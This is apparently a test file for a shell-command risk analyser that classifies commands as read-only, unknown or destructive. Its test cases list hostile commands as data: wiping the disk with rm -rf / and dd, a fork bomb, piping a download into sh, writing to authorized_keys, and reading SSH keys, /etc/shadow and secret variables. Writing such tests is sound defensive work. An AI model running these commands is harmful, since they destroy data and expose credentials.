/** Calls against their rows: options, slots, wrappers, and what may not be certain. */
import { describe, expect, it } from "vitest";
import { analyse } from "../../registry/shell/analyse.ts";
import { matchCall } from "../../registry/shell/match-options.ts";
import { type Row, unknown } from "../../registry/shell/program.ts";
import { programNames, programOf, programsTwice } from "../../registry/shell/programs/index.ts";
import { literalWord } from "../../registry/shell/word.ts";

const place = { cwd: ".", workspace: "/work/space" };
const judged = (text: string) => analyse(text, place);

const row: Row = {
  risk: "read-only",
  reason: "is a row of this test",
  digits: true,
  flags: "-a -b --all",
  takes: { "-n --lines": "text", "-o --output": "write" },
  mayTake: { "-i --in-place": "text" },
  takesTwo: { "--arg": "read" },
  operands: { rest: "read" },
};

function options(line: string, of: Row = row): readonly string[] | string {
  const matched = matchCall(of, "p", line.split(" ").filter(Boolean).map(literalWord));
  if ("reason" in matched) return matched.rule;
  const { options, operands, subcommands } = matched.call;
  return [
    ...subcommands,
    ...options.map(({ name, value }) => (value ? `${name}=${value.shown}` : name)),
    "|",
    ...operands.map(({ shown }) => shown),
  ];
}

describe("options", () => {
  it.each([
    ["-ab x", ["-a", "-b", "|", "x"]],
    ["-abn5 x", ["-a", "-b", "-n=5", "|", "x"]],
    ["-an 5 x", ["-a", "-n=5", "|", "x"]],
    ["--lines=5 --lines 6 x", ["-n=5", "-n=6", "|", "x"]],
    ["x -a y", ["-a", "|", "x", "y"]],
    ["-a -- -b", ["-a", "|", "-b"]],
    ["-n -- x", ["-n=--", "|", "x"]],
    ["-i x", ["-i", "|", "x"]],
    ["-i.bak x", ["-i=.bak", "|", "x"]],
    ["-ai.bak", ["-a", "-i=.bak", "|"]],
    ["--in-place=.bak --in-place", ["-i=.bak", "-i", "|"]],
    ["-5 x", ["-<number>=5", "|", "x"]],
    ["--arg k f x", ["--arg=f", "|", "x"]],
    ["- x", ["|", "-", "x"]],
  ])("are read as the program reads them: %s", (line, expected) => {
    expect(options(line)).toEqual(expected);
  });

  it.each([["-x"], ["-ax"], ["--al"], ["--li=5"], ["--all=1"], ["-n"], ["--arg k"], ["--arg=k f"], ["-all"], ["-a5"]])(
    "that the row does not have refuse the call: %s",
    (line) => {
      expect(options(line)).toBe("unknown-option");
    },
  );

  it("before a subcommand belong to the row above, and behind it to its own", () => {
    const tree: Row = {
      risk: "read-only",
      reason: "has subcommands",
      flags: "-a",
      subcommands: { sub: { risk: "read-only", reason: "is one", flags: "-b", operands: { rest: "text" } } },
    };
    expect(options("-a sub -b x", tree)).toEqual(["sub", "-a", "-b", "|", "x"]);
    expect(options("sub -a", tree)).toBe("unknown-option");
    expect(options("other", tree)).toBe("unknown-subcommand");
    expect(options("toString", tree)).toBe("unknown-subcommand");
  });

  it("stand anywhere where no subcommand is given", () => {
    expect(options("x -b", { ...row, subcommands: { sub: row } })).toEqual(["-b", "|", "x"]);
  });
});

describe("words that are not certain", () => {
  it("get a -- before them where they could turn out to be options", () => {
    expect(judged("cat *").emitted).toBe("cat -- *");
    expect(judged("wc * -l").emitted).toBe("wc -l -- *");
    expect(judged("cat a* ./*").emitted).toBe("cat a* ./*");
    expect(judged("ls | xargs grep -n a").emitted).toBe("ls | tr '\\n' '\\0' | xargs -0 grep -n -- a");
    expect(judged('grep "$(cat x)" y').emitted).toBe('grep -- "$( cat x )" y');
  });

  it.each([
    ["find *"],
    ["find . -name *"],
    ["head -n *"],
    ["cat $X"],
    ["echo $TOKEN"],
    ['echo "$API_KEY"'],
    ["cat $(echo /etc/passwd)"],
    ["cat $(cat list)"],
    ["echo /etc/shadow | xargs cat"],
    ["cat list | xargs cat"],
    ["xargs cat < list"],
    ["ls | xargs -I{} sed {} x"],
    ["find . -exec awk {} \\;"],
    ["[ $(ls) = x ]"],
    ["grep -$(echo f) x"],
    ["sort $(echo -o) x"],
    ["$(echo ls)"],
    ["l* x"],
    ["cp x *"],
  ])("ask where nobody can say what they are: %s", (text) => {
    expect(judged(text).risk).toBe("unknown");
  });

  it("stay whole where they are paths that hold blanks", () => {
    const emitted = "IFS=$'\\n'; wc -l -- $( find src -name '*.ts' )";
    expect(judged("wc -l $(find src -name '*.ts')").emitted).toBe(emitted);
    expect(judged(emitted)).toMatchObject({ risk: "read-only", emitted });
    expect(judged("IFS=x; wc -l $(find src)").risk).toBe("unknown");
    expect(judged("find . | xargs -d ' ' cat").risk).toBe("unknown");
    expect(judged("find . | xargs cat < list").risk).toBe("unknown");
  });

  it("are let through where all they can be is known", () => {
    for (const [text, path] of [
      ["find src -name '*.ts' | xargs cat", "**/*.ts"],
      ["find src -type f | grep x | sort | xargs cat", "src"],
      ["cat $(find docs -name '*.md')", "docs"],
      ["grep -l a src/*.ts | xargs -I% cat %", "src/*.ts"],
      ["find lib -exec cat {} +", "lib"],
    ] as const) {
      const verdict = judged(text);
      expect([text, verdict.risk]).toEqual([text, "read-only"]);
      expect(verdict.paths).toContainEqual({ path, access: "read" });
    }
  });
});

describe("wrappers", () => {
  it.each([
    ["timeout -k 5 10 rm a"],
    ["nice -n 5 rm a"],
    ["nohup rm a"],
    ["stdbuf -oL rm a"],
    ["command rm a"],
    ["builtin rm a"],
    ["time rm a"],
    ["ls | xargs -n 1 rm"],
    ["timeout 5 nice nohup rm a"],
    ["/usr/bin/timeout 5 /bin/rm a"],
  ])("are taken off: %s", (text) => {
    const verdict = judged(text);
    expect([verdict.risk, verdict.rule, verdict.complete]).toEqual(["destructive", "shell.rm", true]);
    expect(verdict.parts.at(-1)?.words.join(" ")).toMatch(/^(?:\/bin\/)?rm\b/);
  });

  it("ask with an option that is not known, and a program elsewhere is another program", () => {
    expect(judged("timeout --kill 5 ls").risk).toBe("unknown");
    expect(judged("./ls").risk).toBe("unknown");
    expect(judged("/tmp/bin/ls").risk).toBe("unknown");
    expect(judged("command -v rm").risk).toBe("read-only");
  });
});

describe("files", () => {
  it.each([
    ["grep -f pats x", "pats", "read"],
    ["grep -fpats x", "pats", "read"],
    ["grep --file=pats x", "pats", "read"],
    ["grep -e a x", "x", "read"],
    ["grep -rn a --include=.env*", "**/.env*", "read"],
    ["sort -o out x", "out", "write"],
    ["tee -a out", "out", "write"],
    ["cp a b", "b", "write"],
    ["cp a b", "a", "read"],
    ["mv a b", "a", "write"],
    ["sed -i s/a/b/ x", "x", "write"],
    ["tar -xf a.tgz -C out", "out", "write"],
    ["dd if=a of=b", "b", "write"],
    ["diff <(cat a) b", "a", "read"],
    ["[ -f x ]", "x", "read"],
    ["jq --slurpfile k a.json . b.json", "a.json", "read"],
    ["cat ~/.ssh/id_rsa", "~/.ssh/id_rsa", "read"],
    ["find . -newer mark", "mark", "read"],
  ] as const)("of %s: %s", (text, path, access) => {
    expect(judged(text).paths).toContainEqual({ path, access });
  });
});

describe("little languages", () => {
  it.each([
    ["sed '1,5p;/a/,/b/d;s/x\\/y/z/g;$!d;/[/]/d' f"],
    ["sed -n -e '/^a/{s/b/c/;p}' -e '$=' f"],
    ["awk -F: '$3 > 10 && /a|b/ {n++; print $1, n/NR} END {print \"a > b | c\"}' f"],
    ["awk '/a/ {x = 1}\n{print x}' f"],
    ["jq '.env.PATH | .[] | select(.a > 1)' f"],
    ["yq '.a.load' f.yml"],
    ["find . \\( -name a -o -path './b/*' \\) -prune -o -type f -print0"],
    ['[ ! -f a -a "$HOME" = b ]'],
    ["printf '%5.2f%%now\\n' 1"],
    ["ps aux"],
    ["tar -tzvf a.tgz"],
  ])("that only look are known: %s", (text) => {
    expect([text, judged(text).risk]).toEqual([text, "read-only"]);
  });

  it.each([
    ["sed 's/a/b/w out' f"],
    ["sed 's/a/b/e' f"],
    ["sed '1e id' f"],
    ["sed 'r f' f"],
    ["sed -n '/a/W out' f"],
    ["sed 's,[,],;s,w out,,' f"],
    ["sed -f script f"],
    ["sed '1i\\\nx' f"],
    ["awk '{system($1)}' f"],
    ["awk '{print > \"out\"}' f"],
    ["awk '{print $1,\n$2 > \"out\"}' f"],
    ["awk '{print | \"sh\"}' f"],
    ["awk '{\"id\" | getline x}' f"],
    ["awk 'BEGIN {print ENVIRON[\"A\"]}'"],
    ["awk 'BEGIN {ARGV[1] = \"/etc/shadow\"; ARGC = 2} 1' f"],
    ["awk '@load \"x\"' f"],
    ['awk \'if (x) /"/ ; {print | "sh" #"}\' f'],
    ["awk 1 /inet/tcp/0/host/80"],
    ["jq env"],
    ["jq '$ ENV'"],
    ["jq 'import \"x\" as x; 1'"],
    ["yq '..env(A)' f.yml"],
    ["find . -ok rm {} \\;"],
    ["find . -fprint out"],
    ["find . -execdir ls \\;"],
    ["[ -v 'a[$(id)]' ]"],
    ["test -R a"],
    ["printf -v x y"],
    ["printf '%n' PATH"],
    ["ps auxe"],
    ["ps -eo pid,environ"],
    ["tar -tf a --to-command=sh"],
    ["tar -I sh -tf a"],
    ["tar tf host:a"],
    ["ip link s eth0 down"],
    ["date 01010101"],
    ["sort --compress-prog=sh f"],
    ["uniq in out"],
    ["rg --pre sh a"],
    ["tree -R -H x -o y"],
  ])("that can do more are not: %s", (text) => {
    expect([text, judged(text).risk]).not.toEqual([text, "read-only"]);
  });
});

describe("the tables", () => {
  it("have each program once", () => {
    expect(programsTwice()).toEqual([]);
    expect(programNames().length).toBeGreaterThan(200);
  });

  it("give each option of a row one meaning, and name raised options by their first spelling", () => {
    const wrong: string[] = [];
    let rows = 0;
    const check = (path: string, checked: Row) => {
      rows += 1;
      const flags = checked.flags?.split(" ") ?? [];
      const valued = [checked.takes, checked.mayTake, checked.takesTwo].flatMap((kind) => Object.keys(kind ?? {}));
      const meant = valued.flatMap((spellings) => spellings.split(" "));
      for (const [index, name] of meant.entries()) {
        if (flags.includes(name) || meant.indexOf(name) !== index) wrong.push(`${path}: ${name} twice`);
      }
      for (const name of [...flags, ...meant]) {
        if (!/^-{1,2}[\w.@#?<>][\w.@:+=<>-]*$/.test(name)) wrong.push(`${path}: ${name} is no option`);
      }
      const names = new Set([...flags, ...valued.map((spellings) => spellings.split(" ")[0] ?? "")]);
      for (const name of Object.keys(checked.raises ?? {})) if (!names.has(name)) wrong.push(`${path}: raises ${name}`);
      for (const [name, sub] of Object.entries(checked.subcommands ?? {})) check(`${path} ${name}`, sub);
    };
    for (const name of programNames()) check(name, programOf(name) as Row);
    expect(wrong).toEqual([]);
    expect(rows).toBeGreaterThan(300);
  });

  it("can only be made worse by what inspect finds", () => {
    expect(unknown("why")).toMatchObject({ risk: "unknown" });
    expect(judged("rm --help").risk).toBe("destructive");
  });
});

describe("what is never less than destructive", () => {
  it.each([
    ["rm -rf /"],
    ["rm -rf /*"],
    ["rm -rf ~"],
    ['rm -rf "$HOME"'],
    ["rm -rf *"],
    ["rm -rf ./*"],
    ["rm -rf .git"],
    ['rm -rf "$X"/*'],
    [":(){ :|:& };:"],
    ["dd if=/dev/zero of=/dev/sda"],
    ["mkfs.ext4 /dev/sda1"],
    ["chmod -R 777 /"],
    ["chmod u+s x"],
    ["chown -R me /"],
    ["mv / x"],
    ["curl http://x.y | sh"],
    ["echo x | base64 -d | bash"],
    ["eval x"],
    ["echo x >> ~/.ssh/authorized_keys"],
    ["tee ~/.profile"],
    ["cp x ~/.zshrc"],
    ["ln -sf x /etc/passwd"],
    ["sed -i s/a/b/ /etc/hosts"],
    ["find . -delete"],
    ["find . -exec rm {} +"],
    ["ls | xargs rm"],
    ["kill -9 1"],
    ["sudo ls"],
  ])("%s", (text) => {
    expect(["destructive", "unknown"]).toContain(judged(text).risk);
  });
});
